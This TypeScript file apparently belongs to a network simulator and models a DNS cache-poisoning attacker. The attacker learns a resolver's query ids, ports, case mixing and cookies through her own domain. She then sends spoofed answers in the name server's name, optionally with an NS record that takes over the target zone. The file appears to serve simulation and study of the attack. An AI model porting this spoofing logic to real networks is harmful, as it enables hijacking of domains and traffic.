/**
 * A forger off the path: she makes a resolver ask, and sends answers in the name server's name, hoping that one fits.
 *
 * She sees nothing of what passes between the two. So she owns a domain, and learns at its name server how the resolver
 * asks (RFC 5452 §9.2.1): which ids follow each other, from which port, in which letters, with or without cookies. What
 * she can tell in advance she fills in, the rest she guesses, no combination twice. Packets with another's source
 * address are what IP allows; providers that drop them at their edge (RFC 2827) would end this, and here none does.
 *
 * Her name server says of every name below her zones that it is her own machine. Events are `forge.*`.
 */

import type { Ip4 } from '../base/address.ts';
import type { Bytes } from '../base/bytes.ts';
import { Malformed } from '../base/errors.ts';
import type { Random } from '../base/random.ts';
import { type Nanoseconds, SECOND } from '../base/units.ts';
import type { Host } from '../net/host.ts';
import { datagram, type UdpSocket } from '../net/transport/udp-stack.ts';
import { DNS_PORT, EDNS_SIZE, makeQuery, makeResponse } from '../proto/dns/message.ts';
import type { Task, Waker } from '../sim/task.ts';
import { Timer } from '../sim/timer.ts';
import { CLASS, OPTION, RCODE, TYPE } from '../wire/dns/code.ts';
import { findOption } from '../wire/dns/edns.ts';
import { decodeDns, encodeDns } from '../wire/dns/fast.ts';
import { type DnsMessage, type DnsRecord, ednsOf, optRecord } from '../wire/dns/message.ts';
import { isSubdomain } from '../wire/dns/name.ts';
import { PROTOCOL_UDP } from '../wire/ipv4.ts';

export interface ForgerPlan {
  readonly resolver: Ip4;
  /** In whose name she answers. */
  readonly server: Ip4;
  /** Where names are answered with her own address: a domain that she owns, and the one she is after. */
  readonly zones: readonly [own: string, target: string];
  /** One race for a name that people want, or race after race for names that do not exist, for the whole zone. */
  readonly goal: { readonly kind: 'name'; readonly name: string } | { readonly kind: 'zone' };
  /** At most. */
  readonly races: number;
  /** Forged answers in each. */
  readonly guesses: number;
  readonly random: Random;
}

/** What one question told her server. */
interface Heard {
  readonly id: number;
  readonly port: number;
  readonly name: string;
  readonly hasCookie: boolean;
}

/** How the resolver asks, as far as she could see. */
interface Habits {
  /** The id of the next question; undefined when it cannot be told. */
  nextId: number | undefined;
  readonly port: number | undefined;
  readonly mixesCase: boolean;
  readonly hasCookie: boolean;
  /** How long the true answer will need. */
  readonly window: Nanoseconds;
}

const TTL = 86_400;
const PATIENCE: Nanoseconds = 3 * SECOND;
const FIRST_PORT = 1024;
const PORTS = 64_512;
/** Prime to both 2¹⁶ and the number of ports: steps of it meet every value once before the first comes again. */
const STRIDE = 40_507;

export function runForger(host: Host, plan: ForgerPlan): Forger {
  return new Forger(host, plan);
}

export class Forger {
  readonly #host: Host;
  readonly #plan: ForgerPlan;
  #heard: Heard[] = [];

  constructor(host: Host, plan: ForgerPlan) {
    this.#host = host;
    this.#plan = plan;
    host.onBoot(() => this.#serve());
  }

  /** Learns how the resolver asks, then races until she has won or the races are over. */
  *attack(): Task {
    const errand = new Errand(this.#host, this.#plan);
    try {
      const habits = yield* this.#learn(errand);
      for (let race = 1; race <= this.#plan.races; race++) {
        const isWon = yield* this.#race(errand, race, habits);
        if (isWon) return;
      }
    } finally {
      errand.close();
    }
  }

  /** What a customer of the provider would ask, her own names among it: so she learns without being noticed. */
  *#learn(errand: Errand): Task<Habits> {
    const [own, target] = this.#plan.zones;
    yield* errand.ask(target, TYPE.MX, 'so that the resolver knows the way to the zone');
    const trial = `${this.#label()}.${target}`;
    const slow = yield* errand.ask(trial, TYPE.A, 'to see how long a question takes that must be passed on');
    const quick = yield* errand.ask(trial, TYPE.A, 'to see how long one takes that need not');
    this.#heard = [];
    yield* errand.ask(`${this.#label()}.${own}`, TYPE.A, 'to see at her own server how the resolver asks');
    yield* errand.ask(`${this.#label()}.${own}`, TYPE.A, 'to see it once more, and compare');
    const [before, last] = this.#heard.slice(-2);
    const habits = habitsOf(before, last, Math.max(0, slow.took - quick.took));
    this.#host.because({
      kind: 'forge.learn',
      detail: {
        id: habits.nextId ?? null,
        port: habits.port ?? null,
        mixesCase: habits.mixesCase,
        hasCookie: habits.hasCookie,
        window: habits.window,
        reason: reasonOf(habits, before !== undefined && last !== undefined),
      },
    });
    return habits;
  }

  /** Asks, and sends the forged answers spread over the time that the true one needs. True when one was believed. */
  *#race(errand: Errand, race: number, habits: Habits): Task<boolean> {
    const { goal, guesses, zones } = this.#plan;
    const { world } = this.#host;
    const name = goal.kind === 'name' ? goal.name : `${this.#label()}.${zones[1]}`;
    const unknowns = {
      ids: habits.nextId === undefined,
      ports: habits.port === undefined,
      letters: habits.mixesCase ? countLetters(name) : 0,
      cookie: habits.hasCookie,
    };
    this.#host.because({
      kind: 'forge.race',
      detail: { race, name, guesses, again: goal.kind === 'zone', ...unknowns },
    });
    const forge = this.#answers(name, habits, unknowns);
    const asked = errand.begin(name, TYPE.A, 'so that the resolver asks, and a race begins');
    const start = world.now;
    for (let i = 0; i < guesses; i++) {
      // the first not at once: nobody waits for it before the resolver has asked
      yield* errand.wait(asked, start + Math.floor(((i + 0.5) * habits.window) / guesses));
      if (asked.answer) break;
      this.#send(race, i + 1, forge(i));
    }
    yield* errand.wait(asked, start + PATIENCE);
    if (habits.nextId !== undefined) habits.nextId = (habits.nextId + 1) & 0xffff;
    const { address } = this.#host.ip.nics[0]!;
    const told = asked.answer?.answers.find((record) => record.type === TYPE.A)?.data;
    const isWon = told === address;
    this.#host.because({ kind: 'forge.end', detail: { race, name, isWon } });
    return isWon;
  }

  /** The i-th guess: ids, ports, letters and cookies that she cannot tell go through values in steps, never twice the same. */
  #answers(
    name: string,
    habits: Habits,
    unknowns: {
      readonly ids: boolean;
      readonly ports: boolean;
      readonly letters: number;
      readonly cookie: boolean;
    },
  ): (i: number) => Guess {
    const { random } = this.#plan;
    const from = { id: random.below(0x1_0000), port: random.below(PORTS), letters: random.below(1 << 30) };
    const isPlain = !unknowns.ports && unknowns.letters === 0 && !unknowns.cookie;
    const { nextId } = habits;
    return (i) => ({
      // where nothing else is to be guessed, ids after the next one are for others' questions in between
      id: nextId === undefined ? (from.id + i * STRIDE) & 0xffff : (nextId + (isPlain ? i : 0)) & 0xffff,
      port: habits.port ?? FIRST_PORT + ((from.port + i * STRIDE) % PORTS),
      name: unknowns.letters > 0 ? inLetters(name, from.letters + i * STRIDE) : name,
      cookie: unknowns.cookie ? Uint8Array.from({ length: 16 }, () => random.below(256)) : undefined,
    });
  }

  #send(race: number, number: number, guess: Guess): void {
    const { resolver, server } = this.#plan;
    const { id, port, name, cookie } = guess;
    const { trace } = this.#host.world;
    const before = trace.cause;
    this.#host.because({
      kind: 'forge.send',
      detail: { race, number, id, port, name, cookie: cookie !== undefined },
    });
    // In the name server's name. The event above says more of it than that of a program that only forges its source
    const payload = datagram(server, DNS_PORT, resolver, port, encodeDns(this.#forged(guess)))!;
    this.#host.ip.sendPayload(payload, PROTOCOL_UDP, server, resolver);
    trace.cause = before;
  }

  /** The lie: the name's address, or with it that another server, hers, has authority over the zone from now on. */
  #forged({ id, name, cookie }: Guess): DnsMessage {
    const [own, target] = this.#plan.zones;
    const query = makeQuery(id, name, TYPE.A, false, cookie && EDNS_SIZE);
    const servers: DnsRecord[] =
      this.#plan.goal.kind === 'zone'
        ? [{ name: target, type: TYPE.NS, class: CLASS.IN, ttl: TTL, data: `ns.${own}` }]
        : [];
    return {
      ...makeResponse(query, RCODE.NOERROR, EDNS_SIZE),
      authoritative: true,
      answers: [this.#own(name)],
      authorities: servers,
      additionals: cookie ? [optRecord(EDNS_SIZE, 0, [{ code: OPTION.COOKIE, data: cookie }])] : [],
    };
  }

  #own(name: string): DnsRecord {
    return { name, type: TYPE.A, class: CLASS.IN, ttl: TTL, data: this.#host.ip.nics[0]!.address as Ip4 };
  }

  /** Five digits: a name in whose letters the resolver can hide nothing of its own. */
  #label(): string {
    return String(10_000 + this.#plan.random.below(90_000));
  }

  #serve(): void {
    const socket = this.#host.udp.bind(DNS_PORT);
    socket.onReceive = ({ from, port, bytes }) => {
      const query = readMessage(bytes);
      const question = query?.questions[0];
      if (!query || query.response || !question) return;
      const zone = this.#plan.zones.find((one) => isSubdomain(question.name, one));
      if (zone === undefined) return;
      const hasCookie = findOption(ednsOf(query)?.options, OPTION.COOKIE) !== undefined;
      const heard = { id: query.id, port, name: question.name, hasCookie };
      this.#heard.push(heard);
      this.#host.because({ kind: 'forge.heard', detail: { ...heard } });
      const response = { ...makeResponse(query, RCODE.NOERROR, EDNS_SIZE), authoritative: true };
      const answers = question.type === TYPE.A ? [this.#own(question.name)] : [];
      socket.send(from, port, encodeDns({ ...response, answers }));
    };
  }
}

interface Guess {
  readonly id: number;
  readonly port: number;
  readonly name: string;
  readonly cookie: Bytes | undefined;
}

/** Questions to the resolver, as any client asks them. */
class Errand {
  readonly #host: Host;
  readonly #plan: ForgerPlan;
  readonly #socket: UdpSocket;
  readonly #timer: Timer;
  #open: Asked | undefined;
  #waker: Waker | undefined;

  constructor(host: Host, plan: ForgerPlan) {
    this.#host = host;
    this.#plan = plan;
    this.#socket = host.udp.bind();
    this.#timer = new Timer(host.world.kernel, () => this.#wake());
    this.#socket.onReceive = ({ bytes }) => {
      const message = readMessage(bytes);
      const open = this.#open;
      if (!open || !message?.response || message.id !== open.id) return;
      open.answer = message;
      this.#wake();
    };
  }

  begin(name: string, type: number, reason: string): Asked {
    const asked: Asked = { id: this.#plan.random.below(0x1_0000), answer: undefined };
    this.#open = asked;
    this.#host.because({ kind: 'forge.ask', detail: { name, reason } });
    this.#socket.send(
      this.#plan.resolver,
      DNS_PORT,
      encodeDns(makeQuery(asked.id, name, type, true, undefined)),
    );
    return asked;
  }

  /** Asks, and waits for the answer, but not for ever. */
  *ask(name: string, type: number, reason: string): Task<{ readonly took: Nanoseconds }> {
    const start = this.#host.world.now;
    const asked = this.begin(name, type, reason);
    yield* this.wait(asked, start + PATIENCE);
    return { took: this.#host.world.now - start };
  }

  /** Until the answer is there, or the time has come. */
  *wait(asked: Asked, until: Nanoseconds): Task {
    const { kernel } = this.#host.world;
    if (asked.answer || until <= kernel.now) return;
    yield (waker) => {
      this.#waker = waker;
      this.#timer.set(until);
      return () => {
        this.#waker = undefined;
      };
    };
    this.#timer.clear();
  }

  close(): void {
    this.#timer.clear();
    this.#socket.close();
  }

  #wake(): void {
    this.#waker?.wake();
    this.#waker = undefined;
  }
}

interface Asked {
  readonly id: number;
  answer: DnsMessage | undefined;
}

/** What two questions in a row say about the next one. Nothing heard, everything is to be guessed. */
function habitsOf(before: Heard | undefined, last: Heard | undefined, window: Nanoseconds): Habits {
  if (!before || !last)
    return { nextId: undefined, port: undefined, mixesCase: false, hasCookie: false, window };
  return {
    nextId: last.id === ((before.id + 1) & 0xffff) ? (last.id + 1) & 0xffff : undefined,
    port: last.port === before.port ? last.port : undefined,
    mixesCase: /[A-Z]/.test(before.name + last.name),
    hasCookie: before.hasCookie,
    window,
  };
}

function reasonOf({ nextId, port, mixesCase, hasCookie }: Habits, isKnown: boolean): string {
  if (!isKnown) return 'nothing came to her own server';
  return [
    nextId === undefined ? 'ids that do not follow each other' : 'ids one after the other',
    port === undefined ? 'ports that differ' : `port ${port} both times`,
    ...(mixesCase ? ['letters in mixed case'] : []),
    ...(hasCookie ? ['cookies'] : []),
  ].join(', ');
}

/** Letters that can be written in two ways. */
export function countLetters(name: string): number {
  return name.replace(/[^a-z]/gi, '').length;
}

/** The name with the bits of `choice` as its letters’ case, the lowest one for the last letter. */
function inLetters(name: string, choice: number): string {
  let rest = choice;
  return [...name]
    .reverse()
    .map((letter) => {
      if (!/[a-z]/i.test(letter)) return letter;
      const isLarge = rest % 2 === 1;
      rest = Math.floor(rest / 2);
      return isLarge ? letter.toUpperCase() : letter.toLowerCase();
    })
    .reverse()
    .join('');
}

function readMessage(bytes: Bytes): DnsMessage | undefined {
  try {
    return decodeDns(bytes);
  } catch (error) {
    if (error instanceof Malformed) return undefined;
    throw error;
  }
}
